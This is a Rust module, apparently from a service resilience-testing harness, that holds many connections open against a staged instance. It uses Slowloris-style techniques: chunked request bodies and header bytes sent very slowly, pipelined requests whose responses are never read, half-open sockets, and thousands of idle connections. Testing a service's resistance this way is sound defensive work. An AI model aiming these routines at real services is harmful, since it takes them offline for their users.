//! Connections that are held and not used as they should be.

use std::io;
use std::time::Duration;

use futures_util::future::pending;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::JoinSet;
use tokio::time::{sleep, timeout};

use super::{Answers, Attack};
use crate::stage::Stage;

/// How many are opened at a time.
const OPENED_AT_ONCE: usize = 64;

/// How long whoever was ended waits before it comes again.
const PAUSE: Duration = Duration::from_secs(1);

const BETWEEN_DROPS: Duration = Duration::from_secs(2);

/// How many connections do nothing: more than the service takes.
const IDLE: usize = 10_500;

/// Holds the attack's connections at the instance that stays; each that ends is opened anew.
pub(super) async fn hold(stage: &Stage, attack: Attack, answers: &Answers) {
    let count = match attack {
        Attack::EndlessBodies => 200,
        Attack::UnreadAnswers => 100,
        Attack::Idle => IDLE.min(own_descriptors().saturating_sub(4_000)),
        _ => 500,
    };
    let address = stage.instances.address(crate::instances::STAYS);
    let mut held = JoinSet::new();
    for number in 0..count {
        let (address, answers) = (address.clone(), answers.clone());
        held.spawn(async move {
            loop {
                let end = one(attack, number, &address).await;
                answers.count(attack, if end.is_ok() { "closed by the service" } else { "reset or refused" });
                sleep(PAUSE).await;
            }
        });
        if number % OPENED_AT_ONCE == 0 {
            sleep(Duration::from_millis(10)).await;
        }
    }
    pending::<()>().await;
}

/// One connection, from its beginning to the end that the service makes.
async fn one(attack: Attack, number: usize, address: &str) -> io::Result<()> {
    let mut socket = connect(attack, address).await?;
    match attack {
        Attack::EndlessBodies => {
            let path = if number.is_multiple_of(2) { "/nowhere" } else { "/api/amo-crm/exchange-code" };
            let head = format!("POST {path} HTTP/1.1\r\nHost: service\r\nTransfer-Encoding: chunked\r\n\r\n");
            socket.write_all(head.as_bytes()).await?;
            drip(socket, b"1\r\n \r\n").await
        }
        Attack::UnreadAnswers => {
            let requests = "GET /openapi.json HTTP/1.1\r\nHost: service\r\n\r\n".repeat(200);
            socket.write_all(requests.as_bytes()).await?;
            // Until it is reset: nothing is read meanwhile.
            loop {
                sleep(BETWEEN_DROPS).await;
                socket.write_all(b"\r\n").await?;
            }
        }
        Attack::SlowHeads => {
            socket.write_all(b"GET /healthz HTTP/1.1\r\nHost: service\r\nX-Drops: ").await?;
            drip(socket, b".").await
        }
        Attack::HalfOpen => {
            match number % 3 {
                0 => {}
                1 => socket.write_all(b"GET /healthz HT").await?,
                _ => {
                    socket.write_all(b"GET /healthz HTTP/1.1\r\nHost: service\r\n\r\n").await?;
                    socket.shutdown().await?;
                }
            }
            until_closed(socket).await
        }
        _ => until_closed(socket).await,
    }
}

async fn connect(attack: Attack, address: &str) -> io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    if attack == Attack::UnreadAnswers {
        socket.set_recv_buffer_size(4096)?;
    }
    socket.connect(address.parse().map_err(io::Error::other)?).await
}

async fn until_closed(mut socket: TcpStream) -> io::Result<()> {
    let mut answered = [0; 4096];
    while socket.read(&mut answered).await? > 0 {}
    Ok(())
}

/// Sends `drop` again and again.
async fn drip(mut socket: TcpStream, drop: &[u8]) -> io::Result<()> {
    let mut answered = [0; 4096];
    loop {
        match timeout(BETWEEN_DROPS, socket.read(&mut answered)).await {
            Ok(Ok(0)) => return Ok(()),
            Ok(Ok(_)) => {}
            Ok(Err(error)) => return Err(error),
            Err(_) => socket.write_all(drop).await?,
        }
    }
}

/// How many descriptors this process may have.
fn own_descriptors() -> usize {
    let limits = std::fs::read_to_string("/proc/self/limits").unwrap_or_default();
    let line = limits.lines().find_map(|line| line.strip_prefix("Max open files"));
    line.and_then(|line| line.split_whitespace().next()?.parse().ok()).unwrap_or(1_024)
}
